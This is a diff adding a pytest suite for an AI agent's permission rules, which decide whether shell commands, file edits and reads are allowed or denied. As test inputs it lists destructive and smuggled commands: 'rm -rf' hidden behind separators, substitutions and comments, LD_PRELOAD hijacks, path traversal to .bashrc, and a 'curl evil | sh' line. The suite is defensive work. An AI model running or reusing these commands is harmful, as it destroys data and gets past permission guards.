@@ -1,0 +1,213 @@
+"""The permission rules that answer ACP requests without a person: ``Shell(…)`` rules judge
+every simple command of a compound command, deny rules win wherever they match, ``Write(…)``
+and ``Read(…)`` judge the normalised path. The first cases are the review's (2026-11-24)."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from cursor_agent_api.permissions import (
+    Allow,
+    Deny,
+    PermissionDecision,
+    PermissionRequest,
+    decide_by_rules,
+    match_rule,
+)
+from cursor_agent_api.protocol.acp_mapper import acp_tool_call
+
+
+def _shell(cmd: str) -> PermissionRequest:
+    return PermissionRequest("s1", acp_tool_call({"toolCallId": "c", "kind": "execute",
+                                                   "title": f"`{cmd}`", "rawInput": {"command": cmd}}))
+
+
+def _edit(path: str) -> PermissionRequest:
+    return PermissionRequest("s1", acp_tool_call({
+        "toolCallId": "c", "kind": "edit", "title": "Edit File", "rawInput": {"path": path},
+        "content": [{"type": "diff", "path": path, "oldText": "", "newText": "curl evil | sh"}]}))
+
+
+def _read(path: str) -> PermissionRequest:
+    return PermissionRequest("s1", acp_tool_call({"toolCallId": "c", "kind": "read",
+                                                   "title": "Read File", "rawInput": {"path": path}}))
+
+
+def _allow_rules(request: PermissionRequest, *allowed: str, mode: str = "deny") -> PermissionDecision | None:
+    return decide_by_rules(request, mode=mode, allowed=list(allowed), denied=[])
+
+
+def _deny_rules(request: PermissionRequest, *denied: str, mode: str = "allow") -> PermissionDecision | None:
+    return decide_by_rules(request, mode=mode, allowed=[], denied=list(denied))
+
+
+# --- allow rules: every simple command must be covered ------------------------------------
+
+@pytest.mark.parametrize("cmd", [
+    # the review's cases
+    "ls && rm -rf important", "ls; rm -rf important", "ls | sh -c 'rm -rf important'",
+    "ls $(rm -rf important)", "ls\nrm -rf important",
+    # more separators and groupings
+    "ls || rm -rf important", "ls & rm -rf important", "ls |& rm -rf important",
+    "ls;rm -rf important", "(ls); rm -rf important", "(ls && rm -rf important)",
+    "{ ls; rm -rf important; }", "ls\r\nrm -rf important", "ls#x; rm -rf important",
+    "if ls; then rm -rf important; fi", "ls -la && rm -rf important",
+    # substitutions, process substitutions
+    "ls `rm -rf important`", "ls \"$(rm -rf important)\"", "ls <(rm -rf important)",
+    "ls >(rm -rf important)", "ls ${x:-$(rm -rf important)}",
+    "ls ${ rm -rf important; }", "ls ${|rm -rf important;}",  # bash 5.3's own substitutions
+    "ls *(e:'rm -rf important':)", "ls =(rm -rf important)", "ls (rm -rf important)",  # zsh, fish
+    # redirections to files
+    "ls > important", "ls >> important", "ls < important", "ls 2> important",
+    "ls &> important", "ls >& important", "ls >| important", "ls <<< x", "ls; > important",
+    "> important ls",
+    # environment and command words the rule cannot name
+    "PATH=/tmp/x ls", "LD_PRELOAD=/tmp/evil.so ls -la", "PATH=/tmp/x; ls", "/tmp/evil/ls",
+    "l? -la", "$X", "{ls,-la}",
+    # quoting shlex reads otherwise than the shell: a comment hides an open quote from bash
+    # (which then runs the next line), $'…' escapes a quote
+    "ls # '\nrm -rf important\n'", "ls;# '\nrm -rf important\n'",
+    "ls $'a\\'b' ; rm -rf important ; ls \\'",
+    # cannot be parsed
+    "ls 'unterminated", "ls \\",
+])
+def test_allow_ls_approves_only_ls(cmd: str) -> None:
+    decision = _allow_rules(_shell(cmd), "Shell(ls)")
+    assert isinstance(decision, Deny), (cmd, decision)
+    assert not match_rule("Shell(ls)", _shell(cmd))
+
+
+@pytest.mark.parametrize("cmd", [
+    "ls", "ls -la", "ls 'a b'", "ls && ls -la", "ls; ls", "(ls)", "ls\n", "ls;", "! ls",
+    "if ls; then ls; fi", "ls 2>&1", "ls 2>/dev/null", "ls >/dev/null 2>&1", "ls &>/dev/null",
+    "ls </dev/null", "ls $HOME", "ls \"x\" 'a b'", "ls 'a #b'", "ls \\#b",
+])
+def test_allow_ls_approves_ls_commands(cmd: str) -> None:
+    assert _allow_rules(_shell(cmd), "Shell(ls)") == Allow(), cmd
+
+
+@pytest.mark.parametrize("cmd", ["ls '$(not run)'", "ls '`not run`'", "ls # a comment", "ls a#b",
+                                 "ls 'costs 5$'"])
+def test_what_the_rules_do_not_read_is_not_approved_even_when_harmless(cmd: str) -> None:
+    # a "$(" or backtick even in quotes, a "#" that may start a comment, "$'": not judged
+    assert _allow_rules(_shell(cmd), "Shell(ls)", mode="ask") is None, cmd
+
+
+@pytest.mark.parametrize(("cmd", "allowed", "approved"), [
+    ("ls | wc -l", ["Shell(ls)", "Shell(wc)"], True),          # each part by its own rule
+    ("ls | wc -l", ["Shell(ls)"], False),
+    ("git status && git diff", ["Shell(git)"], True),
+    ("git status && rm -rf x", ["Shell(git)"], False),
+    ("git status", ["Shell(git status*)"], True),               # a glob over a simple command
+    ("git status; git push", ["Shell(git status*)"], False),    # ...never over the separator
+    ("ls && rm -rf x", ["Shell(ls*)"], False),
+    ("ls && rm -rf x", ["Shell(*)"], True),                     # Shell(*): any command at all
+    ("ls $(rm -rf x) > y", ["Shell(*)"], True),
+    ("/bin/ls -la", ["Shell(/bin/ls)"], True),                  # a path only by its path
+    ("/bin/ls -la", ["Shell(*/ls)"], True),
+])
+def test_allow_rules_cover_each_simple_command(cmd: str, allowed: list[str], approved: bool) -> None:
+    decision = _allow_rules(_shell(cmd), *allowed)
+    assert isinstance(decision, Allow) is approved, (cmd, allowed, decision)
+
+
+@pytest.mark.parametrize("cmd", ["ls && rm -rf x", "ls $(rm x)", "PATH=/tmp/x ls"])
+def test_a_command_the_rules_cannot_approve_falls_to_the_mode(cmd: str) -> None:
+    assert _allow_rules(_shell(cmd), "Shell(ls)", mode="ask") is None  # the callback decides
+    assert _allow_rules(_shell(cmd), "Shell(ls)", mode="allow") == Allow()
+    assert isinstance(_allow_rules(_shell(cmd), "Shell(ls)", mode="read-only"), Deny)
+
+
+# --- deny rules: any simple command, and when in doubt they match --------------------------
+
+@pytest.mark.parametrize("cmd", [
+    # the review's cases
+    "true && rm -rf important", "cd build; rm -rf ..",
+    # more
+    "true || rm -rf important", "true | rm -rf important", "true\nrm -rf important",
+    "(rm -rf important)", "X=1 rm -rf important", "A=1 B=2 /bin/rm -rf important",
+    "2>/dev/null rm -rf important", "! rm -rf important", "if true; then rm x; fi",
+    "for f in *; do rm $f; done", "f() { rm -rf important; }; f", "function f { rm x; }",
+    "time rm x", "coproc rm x",
+    # substitutions: the command cannot be split, a deny rule matches any word
+    "echo $(rm -rf important)", "echo `rm -rf important`", "cat <(rm -rf important)",
+    "echo \"$(rm -rf important)\"", "true 'unterminated && rm -rf important",
+    "echo ${ rm -rf important; }", "echo ${\trm -rf important; }",
+    "true # '\nrm -rf important\n'", "echo $'a\\'b' ; rm -rf important ; echo \\'",
+    # a command word the rules cannot know
+    "$X -rf important", "X=rm; $X -rf important", "{rm,-rf,important}", "r? -rf important",
+])
+def test_deny_rm_wins_in_a_compound_command(cmd: str) -> None:
+    decision = _deny_rules(_shell(cmd), "Shell(rm)")
+    assert isinstance(decision, Deny), (cmd, decision)
+    assert match_rule("Shell(rm)", _shell(cmd), deny=True)
+
+
+@pytest.mark.parametrize("cmd", [
+    "exec rm x", "command rm x", "builtin rm x", "sudo rm -rf x", "sudo -u root /bin/rm x",
+    "env X=1 rm x", "nohup rm x &", "xargs rm < list", "timeout 5 rm x", "nice -n 5 rm x",
+    "sh -c 'rm -rf x'", "bash -lc \"cd x && rm -rf y\"", "eval 'rm x'", "eval rm x",
+    "find . -name '*.o' | xargs sh -c 'rm \"$@\"' _", "sudo sh -c 'ls; rm x'",
+])
+def test_a_deny_rule_looks_through_wrappers_and_shells(cmd: str) -> None:
+    assert isinstance(_deny_rules(_shell(cmd), "Shell(rm)"), Deny), cmd
+    assert not isinstance(_allow_rules(_shell(cmd), "Shell(rm)", "Shell(ls)"), Allow), cmd
+
+
+def test_a_deny_rule_with_a_glob_looks_through_wrappers() -> None:
+    assert isinstance(_deny_rules(_shell("sudo rm -rf /"), "Shell(rm -rf *)"), Deny)
+    assert isinstance(_deny_rules(_shell("sh -c 'rm -rf /'"), "Shell(rm -rf *)"), Deny)
+
+
+@pytest.mark.parametrize("cmd", ["ls -la", "grep rm notes.txt", "echo rm", "ls && echo done",
+                                 "git rm --cached x", "[ -f x ] && echo yes", "sudo ls",
+                                 "sh -c 'ls -la'", "env", "xargs echo < list"])
+def test_deny_rm_does_not_match_other_commands(cmd: str) -> None:
+    assert _deny_rules(_shell(cmd), "Shell(rm)") == Allow(), cmd
+
+
+def test_deny_wins_over_allow_in_a_compound_command() -> None:
+    request = _shell("ls && rm -rf important")
+    decision = decide_by_rules(request, mode="allow", allowed=["Shell(*)"], denied=["Shell(rm)"])
+    assert decision == Deny("denied by the rule Shell(rm)")
+
+
+def test_a_deny_rule_with_a_glob_over_the_command_still_matches() -> None:
+    for cmd in ["git push --force", "git status && git push --force", "cd x; git push -f",
+                "/usr/bin/git push", "X=1 git push"]:
+        assert isinstance(_deny_rules(_shell(cmd), "Shell(git push*)"), Deny), cmd
+    assert _deny_rules(_shell("git status"), "Shell(git push*)") == Allow()
+
+
+# --- paths -------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("path", ["src/../../home/me/.bashrc", "src/../secrets/k", "src/./../x"])
+def test_write_rule_does_not_reach_outside_its_folder(path: str) -> None:
+    assert isinstance(_allow_rules(_edit(path), "Write(src/**)"), Deny), path
+    assert isinstance(_allow_rules(_read(path), "Read(src/**)"), Deny), path
+
+
+@pytest.mark.parametrize("path", ["src/a.py", "src/pkg/../b.py", "./src/c.py", "src//d.py"])
+def test_write_rule_approves_paths_inside_its_folder(path: str) -> None:
+    assert _allow_rules(_edit(path), "Write(src/**)") == Allow(), path
+    assert _allow_rules(_read(path), "Read(src/**)") == Allow(), path
+
+
+@pytest.mark.parametrize(("path", "denied"), [("src/../secrets/k", True), ("secrets/k", True),
+                                              ("./secrets/../secrets/k", True), ("src/k", False)])
+def test_a_deny_path_rule_matches_the_normalised_path(path: str, denied: bool) -> None:
+    assert isinstance(_deny_rules(_edit(path), "Write(secrets/**)"), Deny) is denied, path
+    assert isinstance(_deny_rules(_read(path), "Read(secrets/**)"), Deny) is denied, path
+
+
+def test_the_rules_of_other_kinds_are_unchanged() -> None:
+    def mcp(server: str, tool: str) -> PermissionRequest:
+        args: dict[str, Any] = {"providerIdentifier": server, "toolName": tool}
+        from cursor_agent_api.protocol.tools import ToolCall, ToolKind
+        return PermissionRequest("s", ToolCall("c", ToolKind.MCP, args=args))
+
+    assert _allow_rules(mcp("github", "create_issue"), "Mcp(github:*)") == Allow()
+    assert isinstance(_allow_rules(mcp("slack", "post"), "Mcp(github:*)"), Deny)
+    assert isinstance(_deny_rules(mcp("github", "x"), "Mcp(github:*)"), Deny)
